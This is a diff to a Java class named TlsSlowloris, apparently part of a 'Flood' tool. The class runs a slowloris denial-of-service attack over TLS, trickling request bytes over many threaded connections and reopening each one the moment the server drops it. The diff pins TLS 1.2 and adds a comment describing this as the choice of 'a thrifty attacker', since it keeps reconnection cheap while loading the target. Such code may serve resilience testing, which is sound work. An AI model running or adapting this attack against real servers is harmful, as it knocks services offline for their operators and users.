@@ -243,6 +243,10 @@ class Flood {
  * The slowloris inside TLS: a thread per connection, which connects, completes the handshake,
  * then writes one more byte of the head each interval; a read with the interval as its timeout
  * is the wait, and sees at once when the server closes the connection, which is then opened again.
+ * TLS 1.2, as a thrifty attacker would choose: its sessions resume without a key exchange, so
+ * reopening costs both sides little (a TLS 1.3 handshake from this JVM costs about six times as
+ * much CPU), and an edge that cuts slow heads after 10 s sees 2,000 connections reopened 200
+ * times a second.
  */
 class TlsSlowloris {
 
@@ -262,6 +266,7 @@ class TlsSlowloris {
             Thread thread = new Thread(null, () -> {
                 while (System.nanoTime() < end) {
                     try (javax.net.ssl.SSLSocket socket = (javax.net.ssl.SSLSocket) factory.createSocket()) {
+                        socket.setEnabledProtocols(new String[] { "TLSv1.2" });
                         socket.connect(address, 10_000);
                         socket.setSoTimeout(interval * 1000);
                         socket.startHandshake();
